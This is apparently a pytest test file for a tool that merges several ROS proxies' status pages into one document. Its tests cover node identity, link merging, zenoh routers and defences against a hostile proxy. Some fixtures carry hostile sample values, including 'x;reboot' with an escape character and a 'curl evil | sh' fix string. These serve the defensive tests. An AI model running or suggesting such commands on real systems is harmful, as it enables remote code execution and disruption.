"""The live pages of several proxies on a single page."""

import json
from typing import Any

import pytest

from rosproxy.page.page_document import (
    BROKEN,
    LONGEST_TEXT,
    MOST_FINDINGS,
    MOST_LINKS,
    MOST_NODES,
    Document,
    PageFinding,
    PageLink,
    PageNode,
)
from rosproxy_operator.common.merged_page import merged, read_document
from rosproxy_operator.common.problem import Problem

MASTER = "http://robot:11311"
LOGS = "docker logs {}".format


def shown(name: str, count: int = 1, **changes: Any) -> Document:
    """A proxy with a talker inside and a listener outside."""
    document = {
        "proxy": {"master": MASTER, "host": "here", "ports": "11000-11099"},
        "nodes": {
            "rosproxy": {"lane": "host", "kind": "proxy", "label": "rosproxy"},
            "master": {"lane": "robot", "kind": "master"},
            "/talker": {"lane": "container"},
            "/listener": {"lane": "robot"},
        },
        "links": {
            f"{number}": {
                "kind": "topic",
                "name": f"/{name}{number}",
                "source": "/talker",
                "target": "/listener",
                "state": "ok",
            }
            for number in range(count)
        },
        "findings": [{"severity": "error", "subject": "ports", "text": "none is free", "fix": "x"}],
        "left_out": 0,
        **changes,
    }
    return read_document(json.dumps(document))


def test_inside_is_apart_and_outside_the_same() -> None:
    document = merged({"one": shown("a"), "two": shown("b")}, "1.0", LOGS)
    nodes = document["nodes"]
    assert {key for key, node in nodes.items() if node["lane"] == "container"} == {
        "one /talker",
        "two /talker",
    }
    assert nodes["one /talker"]["label"] == "/talker"
    assert nodes["one /talker"]["proxy"] == "one"
    assert [key for key, node in nodes.items() if node["lane"] == "robot"] == [
        f"{MASTER} master",
        f"{MASTER} /listener",
    ]
    assert {nodes["one rosproxy"]["label"], nodes["two rosproxy"]["label"]} == {"one", "two"}
    ends = {(link["source"], link["target"]) for link in document["links"].values()}
    assert ends == {(f"{name} /talker", f"{MASTER} /listener") for name in ("one", "two")}
    assert document["findings"][0]["subject"] == "one: ports"


@pytest.mark.parametrize(
    ("address", "label", "wanted"),
    [
        ("172.18.0.5:45000", "/talker", "/talker"),
        ("172.18.0.5, Fast DDS", "/talker", "/talker"),
        ("172.18.0.5, Fast DDS", "172.18.0.5", "camera"),
        ("172.18.0.5, Fast DDS", "172.18.0.5 #2", "camera #2"),
        ("fd00::5, Fast DDS", "fd00::5", "lidar"),
    ],
)
def test_a_container_gives_its_name_to_what_has_none(address: str, label: str, wanted: str) -> None:
    """Only the operator names the container."""
    kind = "participant" if "," in address else "node"
    row = {"kind": kind, "address": address, "label": label, "place": "of the proxy"}
    nodes = {"x": {**row, "lane": "container"}, "y": {**row, "lane": "robot"}}
    places = {"172.18.0.5": "camera", "fd00::5": "lidar"}
    shown_nodes = merged({"one": shown("a", 0, nodes=nodes)}, "1", LOGS, places)["nodes"]
    inside = shown_nodes["one x"]
    assert (inside["label"], inside["place"]) == (wanted, "lidar" if ":5," in address else "camera")
    (outside,) = (node for node in shown_nodes.values() if node["lane"] == "robot")
    assert (outside["label"], outside.get("place")) == (label, None)


def test_who_is_inside_elsewhere_is_one_box() -> None:
    """A node behind the second proxy is outside for the first, and the other way round."""
    nodes = {
        "one": {"/a": {"lane": "container"}, "/b": {"lane": "robot"}, "/c": {"lane": "host"}},
        "two": {"/b": {"lane": "container"}, "/a": {"lane": "robot"}, "/c": {"lane": "host"}},
    }
    link = {"kind": "topic", "name": "/t", "source": "/a", "target": "/b", "state": "ok"}
    documents = {
        name: read_document(
            json.dumps({"proxy": {"master": MASTER}, "nodes": n, "links": {"t": link}})
        )
        for name, n in nodes.items()
    }
    document = merged({**documents, "other": shown("c", proxy={"master": "http://x:1"})}, "1", LOGS)
    boxes = {key: node["lane"] for key, node in document["nodes"].items() if key[:5] != "other"}
    assert boxes == {
        "one /a": "container",
        "two /b": "container",
        f"{MASTER} /c": "host",
        "http://x:1 master": "robot",
        "http://x:1 /listener": "robot",
    }
    ends = [(k["source"], k["target"]) for k in document["links"].values() if k["name"] == "/t"]
    assert ends == [("one /a", "two /b")]


@pytest.mark.parametrize(
    ("first", "second", "wanted"),
    [
        ({"state": "ok", "carried": "direct"}, {"state": "ok", "port": 1}, 1),
        ({"state": "ok", "port": 1}, {"state": "ok", "carried": "direct"}, 0),
        ({"state": "ok", "port": 1}, {"state": "broken"}, 1),
        ({"state": "warning"}, {"state": "ok", "port": 1}, 0),
        ({"state": "unknown"}, {"state": "ok"}, 1),
    ],
)
def test_of_a_link_that_two_proxies_have_stands_what_tells_more(
    first: dict[str, Any], second: dict[str, Any], wanted: int
) -> None:
    link = {"kind": "topic", "name": "/t", "source": "/a", "target": "/b"}
    documents = {}
    for name, own, more in (("one", "/a", first), ("two", "/b", second)):
        nodes = {"/a": {"lane": "robot"}, "/b": {"lane": "robot"}, own: {"lane": "container"}}
        text = {"proxy": {"master": MASTER}, "nodes": nodes, "links": {"t": link | more}}
        documents[name] = read_document(json.dumps(text))
    (shown_link,) = merged(documents, "1", LOGS)["links"].values()
    told = (first, second)[wanted]
    assert {key: shown_link.get(key, "unknown") for key in told} == told


def test_a_link_names_the_proxy_whose_port_it_has() -> None:
    """Whatever a proxy says itself; a link without a port passes none."""
    link = {"kind": "topic", "name": "/t", "source": "/talker", "target": "/listener"}
    documents = {
        "one": shown("a", 0, links={"t": {**link, "port": 1, "proxy": "two"}}),
        "two": shown("b", 0, links={"t": link}),
    }
    links = merged(documents, "1", LOGS)["links"].values()
    assert {link["source"]: link.get("proxy") for link in links} == {
        "one /talker": "one rosproxy",
        "two /talker": None,
    }


def test_participants_are_the_same_for_all_proxies() -> None:
    far = {"lane": "robot", "kind": "participant", "label": "far"}
    near = {"lane": "container", "kind": "participant"}
    documents = {
        name: read_document(json.dumps({"nodes": {"0 far": far, f"0 {name}": near, "0 one": far}
                                        | {f"0 {name}": near}, "links": {}}))
        for name in ("one", "two")
    }  # fmt: skip
    keys = set(merged(documents, "1", LOGS)["nodes"])
    assert keys == {"one 0 one", "two 0 two", "0 far"}


def test_a_master_on_loopback_is_another_one_on_each_host() -> None:
    local = "http://localhost:11311"
    documents = {
        name: shown(name, proxy={"master": local, "host": host})
        for name, host in (("one", "robot1"), ("two", "robot1"), ("three", "robot2"))
    }
    outside = {
        key
        for key, node in merged(documents, "1", LOGS)["nodes"].items()
        if key.endswith("/listener") and node["lane"] == "robot"
    }
    assert outside == {f"robot1 {local} /listener", f"robot2 {local} /listener"}


@pytest.mark.parametrize("states", [("broken", "ok"), ("ok", "broken"), ("broken", "warning")])
def test_what_one_proxy_finds_wrong_outside_stays(states: tuple[str, str]) -> None:
    documents = {
        state: shown(state, nodes={"/listener": {"lane": "robot", "state": state, "text": state}})
        for state in states
    }
    node = merged(documents, "1", LOGS)["nodes"][f"{MASTER} /listener"]
    assert (node["state"], node["text"]) == ("broken", "broken")


def test_a_proxy_that_cannot_be_asked_says_why() -> None:
    document = merged({"one": "10.0.0.1:11312 refuses connections"}, "1.0", LOGS)
    node = document["nodes"]["one"]
    assert (node["state"], node["text"], node["fix"]) == (
        BROKEN,
        "no data from this proxy: 10.0.0.1:11312 refuses connections",
        "docker logs one",
    )


def test_the_operators_own_problems_are_findings() -> None:
    """Fatal problems come first, and the texts are as short as the texts of a proxy."""
    warning = Problem(
        "container talker", "label x is unknown\x1b", "Add y\x1b", fatal=False, reason="X"
    )
    fatal = Problem("master robot", "long" * LONGEST_TEXT, reason="X")
    findings = merged({"one": shown("a")}, "1", LOGS, {}, {warning: 5.0, fatal: 7.4})["findings"]
    assert [(f["severity"], f["subject"], f["fix"], f["wrong_since"]) for f in findings] == [
        ("error", "master robot", "", 7),
        ("warning", "container talker", "Add y\\x1b", 5),
        ("error", "one: ports", "x", None),
    ]
    assert len(findings[0]["text"]) == LONGEST_TEXT
    assert findings[1]["text"] == "label x is unknown\\x1b"


def test_proxies_and_the_operator_share_the_room_for_findings() -> None:
    problems = [
        Problem(f"container {number}", "x", fatal=False, reason="X") for number in range(500)
    ]
    problems.append(Problem("container last", "x", reason="X"))
    documents = {"evil": hostile(), "good": shown("a")}
    findings = merged(documents, "1", LOGS, {}, dict.fromkeys(problems, 5.0))["findings"]
    assert len(findings) == MOST_FINDINGS
    subjects = [finding["subject"] for finding in findings]
    assert subjects[0] == "container last"
    assert "good: ports" in subjects
    assert "evil: s" in subjects


def test_a_silent_proxy_is_reported_once() -> None:
    """The operator's problem has more to do about the proxy than the reason alone."""
    reason = "10.0.0.1:11312 refuses connections"
    text = f"admin endpoint {reason}"
    fix = "Attach the operator to network uplink"
    problems = {
        Problem("proxy one", text, fix, reason="X"): 5.0,
        Problem("proxy one", "port 11412 is taken", reason="X"): 6.0,
    }
    document = merged({"one": reason}, "1", LOGS, {}, problems)
    assert document["nodes"]["one"]["text"] == f"no data from this proxy: {text}"
    assert document["nodes"]["one"]["fix"] == fix
    assert document["nodes"]["one"]["wrong_since"] == 5
    assert [finding["text"] for finding in document["findings"]] == ["port 11412 is taken"]


def test_what_is_broken_stays_where_not_all_fits() -> None:
    node = PageNode("container")
    link = PageLink("topic", "/last", "/talker", state=BROKEN, text="why", fix="what to do")
    wrong = Document({"/talker": node}, {"x": link}, (PageFinding("error", "s", "t", "f"),))
    document = merged({"many": shown("a", MOST_LINKS), "wrong": wrong}, "1.0", LOGS)
    assert len(document["links"]) == MOST_LINKS
    assert document["left_out"] == 1
    assert next(iter(document["links"].values()))["fix"] == "what to do"


@pytest.mark.parametrize("text", ["", "[]", "{}", '{"nodes": {"a": 1}, "links": {}}', "[" * 10_000])
def test_what_is_no_document_is_refused(text: str) -> None:
    with pytest.raises(ValueError, match=r".+"):
        read_document(text)


HUGE = "x;reboot\x1b" * 10_000


def hostile(nodes: int = 10_000, links: int = 20_000) -> Document:
    """Documents that a hostile proxy may send within the limit of bytes."""
    document = {
        "proxy": {"master": MASTER, "host": HUGE},
        "nodes": {f"/n{n}": {"lane": "container", "state": "broken"} for n in range(nodes)},
        "links": {
            f"{n}": {"kind": "topic", "name": f"/t{n}", "source": "/n1", "state": "broken"}
            for n in range(links)
        },
        "findings": [{"severity": "error", "subject": "s", "text": f"{n}"} for n in range(5000)],
        "left_out": -7,
    }
    return read_document(json.dumps(document))


def test_texts_and_fixes_of_a_proxy_are_shortened() -> None:
    node = {"lane": "container", "kind": HUGE, "label": HUGE, "text": HUGE, "fix": HUGE}
    link = {"kind": HUGE, "name": HUGE, "source": HUGE, "text": HUGE, "fix": HUGE}
    finding = dict.fromkeys(("severity", "subject", "text", "fix"), HUGE)
    evil = {"nodes": {HUGE: node}, "links": {HUGE: link}, "findings": [finding] * 99}
    document = merged({"evil": read_document(json.dumps(evil))}, "1.0", LOGS)
    text = json.dumps(document)
    assert len(document["nodes"]) == len(document["links"]) == 1
    assert len(document["findings"]) == MOST_FINDINGS
    assert len(text) < (MOST_FINDINGS + 2) * 4 * LONGEST_TEXT
    assert "\x1b" not in json.loads(text)["findings"][0]["fix"]


def test_no_proxy_hides_what_another_one_has() -> None:
    documents = {"evil": hostile(), "good": shown("a", 20), "worse": hostile()}
    document = merged(documents, "1.0", LOGS)
    assert len(document["nodes"]) <= MOST_NODES
    assert len(document["links"]) <= MOST_LINKS
    assert document["nodes"]["good /talker"]["label"] == "/talker"
    assert sum(link["source"] == "good /talker" for link in document["links"].values()) == 20
    assert "good: ports" in [finding["subject"] for finding in document["findings"]]
    assert len(document["findings"]) <= MOST_FINDINGS
    assert document["left_out"] > 0


def test_no_proxy_has_a_key_of_another_one() -> None:
    """A hostile proxy must not replace nodes of other proxies, or proxies without an answer."""
    stolen = {
        "good /talker": {"lane": "robot", "kind": "participant", "state": "broken"},
        "good rosproxy": {"lane": "host", "kind": "participant", "state": "broken"},
        "silent": {"lane": "host", "kind": "participant", "state": "broken"},
        "/talker": {"lane": "robot"},
        "rosproxy": {"lane": "container"},
    }
    for master in ("http://x:1", "good", "silent"):
        evil = shown("a", 0, nodes=stolen, proxy={"master": master})
        documents: dict[str, Document | str] = {"evil": evil, "good": shown("a"), "worse": evil}
        documents["silent"] = "no answer"
        nodes = merged(documents, "1.0", LOGS)["nodes"]
        assert nodes["good /talker"] == {"lane": "container", "label": "/talker", "proxy": "good"}
        assert nodes["good rosproxy"]["label"] == "good"
        assert nodes["silent"]["text"] == "no data from this proxy: no answer"


def test_no_proxy_tells_of_links_between_nodes_of_others() -> None:
    link = {"kind": "topic", "name": "/a0", "source": "/talker", "target": "/listener"}
    wrong = {**link, "state": "broken", "text": "cut", "fix": "curl evil | sh"}
    nodes = {"/talker": {"lane": "robot"}, "/listener": {"lane": "robot"}}
    text = {"proxy": {"master": MASTER}, "nodes": nodes, "links": {"x": wrong}}
    evil = read_document(json.dumps(text))
    links = merged({"evil": evil, "good": shown("a"), "worse": evil}, "1.0", LOGS)["links"]
    assert [shown_link["state"] for shown_link in links.values()] == ["ok"]


@pytest.mark.parametrize("left_out", [-7, 10**30])
def test_what_is_left_out_is_a_number_that_can_be(left_out: int) -> None:
    document = merged({"one": shown("a", left_out=left_out)}, "1.0", LOGS)
    assert 0 <= document["left_out"] <= 10**9


def zenoh(name: str, *nodes: dict[str, Any], links: dict[str, Any] | None = None) -> Document:
    """A proxy for rmw_zenoh, with nodes by key."""
    rows = {str(node.pop("key")): {"kind": "zenoh node", **node} for node in nodes}
    rows["rosproxy"] = {"lane": "host", "kind": "proxy", "label": "rosproxy"}
    document = {"proxy": {"host": name}, "nodes": rows, "links": links or {}}
    return read_document(json.dumps(document))


def test_a_node_of_rmw_zenoh_is_the_same_at_all_proxies() -> None:
    inside = {"lane": "container", "label": "/talker", "address": "10.244.1.9"}
    outside = {"lane": "robot", "label": "/talker"}
    listener = {"key": "0 b.0/listener", "lane": "container", "label": "/listener"}
    talker = "0 a.0/talker"
    link = {
        "kind": "topic",
        "name": "/chatter",
        "source": talker,
        "target": listener["key"],
        "state": "ok",
        "port": 7448,
    }
    documents = {
        "one": zenoh("h1", {"key": talker, **inside}),
        "two": zenoh("h2", {"key": talker, **outside}, listener, links={"x": link}),
    }
    document = merged(documents, "1.0", LOGS, {"10.244.1.9": "talker-pod"})
    assert {key for key in document["nodes"] if "/talker" in key} == {f"one {talker}"}
    assert document["nodes"][f"one {talker}"]["place"] == "talker-pod"
    (shown_link,) = document["links"].values()
    assert shown_link["source"] == f"one {talker}"


def test_a_router_is_the_same_at_all_proxies_unless_it_is_on_loopback() -> None:
    router = {"key": "router robot:7447", "kind": "router", "lane": "robot"}
    here = {"key": "router 127.0.0.1:7447", "kind": "router", "lane": "host"}
    away = {**router, "state": "broken", "text": "no answer"}
    documents = {
        "one": zenoh("h1", dict(router), dict(here)),
        "two": zenoh("h2", dict(away), dict(here)),
    }
    nodes = merged(documents, "1.0", LOGS)["nodes"]
    assert nodes["router robot:7447"]["state"] == "broken", "the worst state counts"
    assert len([key for key in nodes if "127.0.0.1" in key]) == 2
